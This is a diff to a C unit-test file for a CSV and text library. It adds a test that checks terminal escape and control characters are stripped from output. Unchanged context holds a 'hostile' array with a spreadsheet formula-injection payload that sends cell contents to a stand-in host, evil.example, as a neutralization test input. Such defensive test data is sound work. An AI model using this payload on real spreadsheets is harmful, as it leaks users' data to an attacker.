@@ -4,6 +4,7 @@
 #include <string.h>
 
 #include "tcia-csv.h"
+#include "tcia-text.h"
 
 static const char * const hostile[] = {
   "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
@@ -289,6 +290,31 @@ test_unneutralize (void)
   tcia_csv_unneutralize (NULL);
 }
 
+/* What listings write keeps its text and line breaks but no terminal escape. */
+static void
+test_strip_controls (void)
+{
+  static const struct
+  {
+    const char *in, *out;
+  } cases[] = {
+    { "plain é ✓", "plain é ✓" },
+    { "a\tb\r\nc", "a\tb\r\nc" },
+    { "\x1b[31mred\x1b[0m", "[31mred[0m" },
+    { "bell\a nul-less \x01\x1f\x7f", "bell nul-less " },
+    { "c1 \xc2\x9b""31m \xc2\xa0", "c1 31m \xc2\xa0" },
+    { "bad \x9b utf-8", "bad \xef\xbf\xbd utf-8" },
+    { NULL, "" },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
+    {
+      g_autofree char *out = tcia_text_strip_controls (cases[i].in);
+
+      g_assert_cmpstr (out, ==, cases[i].out);
+    }
+}
+
 int
 main (int   argc,
       char *argv[])
@@ -303,6 +329,7 @@ main (int   argc,
   g_test_add_func ("/core/csv/reader-malformed", test_reader_malformed);
   g_test_add_func ("/core/csv/reader-nul", test_reader_nul);
   g_test_add_func ("/core/csv/reader-linear", test_reader_linear);
+  g_test_add_func ("/core/text/strip-controls", test_strip_controls);
 
   return g_test_run ();
 }
